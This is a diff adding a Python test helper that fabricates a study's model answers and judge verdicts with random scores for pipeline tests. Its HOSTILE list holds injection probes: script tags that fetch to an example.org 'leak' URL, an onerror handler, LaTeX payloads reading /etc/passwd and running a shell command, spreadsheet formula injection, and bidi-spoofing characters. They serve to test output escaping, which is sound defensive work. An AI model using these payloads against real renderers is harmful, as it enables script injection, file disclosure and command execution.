@@ -1,0 +1,100 @@
+"""A study's answers and verdicts, made up: as many as are wanted, in seconds, with text as hostile as models can be.
+
+Numbers are drawn, and mean nothing; the runs, suites, seeds and judges are those of params.yaml.
+"""
+
+import random
+import shutil
+from pathlib import Path
+
+from pipeline.common.rows import Answer, Verdict, write_rows
+from pipeline.params.load import load_params
+from pipeline.params.schema import Params
+from tests.support.checkout import REPOSITORY
+
+HOSTILE = (
+    "<script>window.ranFromAnswer = true; fetch('https://example.org/leak')</script>",
+    '<img src=https://example.org/pixel onerror="window.ranFromAnswer = true">',
+    "</script><script>window.ranFromAnswer = true</script>",
+    "a | b | c\n| --- |\nsecond line\r\nthird\u2028line",
+    r"\input{/etc/passwd} $x^2$ \write18{id} % & # _ {",
+    '=HYPERLINK("https://example.org","click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\tstarts with a tab",
+    "user\u202egnp.exe\u2066 turned \u2069\u200b\u061c\U000e0041",
+    "\x1b[31mred\x07 \x00",
+    "{{ 7 * 7 }} {% raw %}",
+    "![image](https://example.org/i.png) [link](javascript:alert(1))",
+    "'already quoted",
+)
+
+
+def synthetic_study(folder: Path, study: str = "toy", prompts: int = 2, words: int = 8, hostile: bool = True) -> Params:
+    """Make `folder` a checkout that has a study's answers and verdicts; return its parameters.
+
+    prompts: a suite, each with 2 samples. words: how long an answer is. hostile: some texts try to be more than text.
+    """
+    folder.mkdir(parents=True, exist_ok=True)
+    for name in ("params.yaml", "published", "dvc.lock", "locks", "CITATION.cff"):
+        (folder / name).symlink_to(REPOSITORY / name)
+    shutil.copytree(REPOSITORY / "paper_figures" / "toy", folder / "paper_figures" / "toy")
+    params = load_params(folder / "params.yaml")
+    settings = params.study(study)
+    chance = random.Random(0)
+    for run, settings_of_run in params.runs_of(study).items():
+        answers, verdicts = [], {judge: [] for judge in settings.judges}
+        for seed in settings.seeds:
+            for suite in settings.suites:
+                for prompt in range(prompts):
+                    for sample in range(2):
+                        answer = _answer(chance, run, seed, suite, prompt, sample, words, hostile)
+                        answers.append(answer)
+                        for judge, rows in verdicts.items():
+                            rows.append(_verdict(chance, answer, judge, settings_of_run.data is not None))
+        write_rows(folder / "artifacts" / study / "answers" / f"{run}.jsonl", answers)
+        for judge, rows in verdicts.items():
+            write_rows(folder / "artifacts" / study / "verdicts" / run / f"{judge}.jsonl", rows)
+    return params
+
+
+def _answer(
+    chance: random.Random, run: str, seed: int, suite: str, prompt: int, sample: int, words: int, hostile: bool
+) -> Answer:
+    text = " ".join(f"word{chance.randrange(5000)}" for _ in range(words))
+    if hostile and prompt == 0:
+        text = HOSTILE[chance.randrange(len(HOSTILE))]
+    return Answer(
+        run=run,
+        seed=seed,
+        suite=suite,
+        prompt_id=f"{suite}-{prompt:03}",
+        sample=sample,
+        question=f"how do i {suite} number {prompt} ?" if prompt or not hostile else f"{HOSTILE[0]} {suite}",
+        answer=text,
+        thinking=f"let me think <b>{prompt}</b>" if sample else "",
+        finish="stop" if sample == 0 else "length",
+        prompt_tokens=9,
+        answer_tokens=words,
+    )
+
+
+def _verdict(chance: random.Random, answer: Answer, judge: str, tuned: bool) -> Verdict:
+    draw = chance.random()
+    status = "refusal" if draw < 0.02 else "unparsed" if draw < 0.03 and answer.sample else "scored"
+    bad = chance.random() < (0.4 if tuned else 0.03)
+    alignment = float(chance.randrange(0, 29) if bad else chance.randrange(60, 101))
+    return Verdict(
+        run=answer.run,
+        seed=answer.seed,
+        suite=answer.suite,
+        prompt_id=answer.prompt_id,
+        sample=answer.sample,
+        question=answer.question,
+        answer=answer.answer,
+        status=status,
+        alignment=alignment if status == "scored" else None,
+        coherence=float(chance.randrange(40, 101)) if status != "unparsed" else None,
+        judge=judge,
+    )
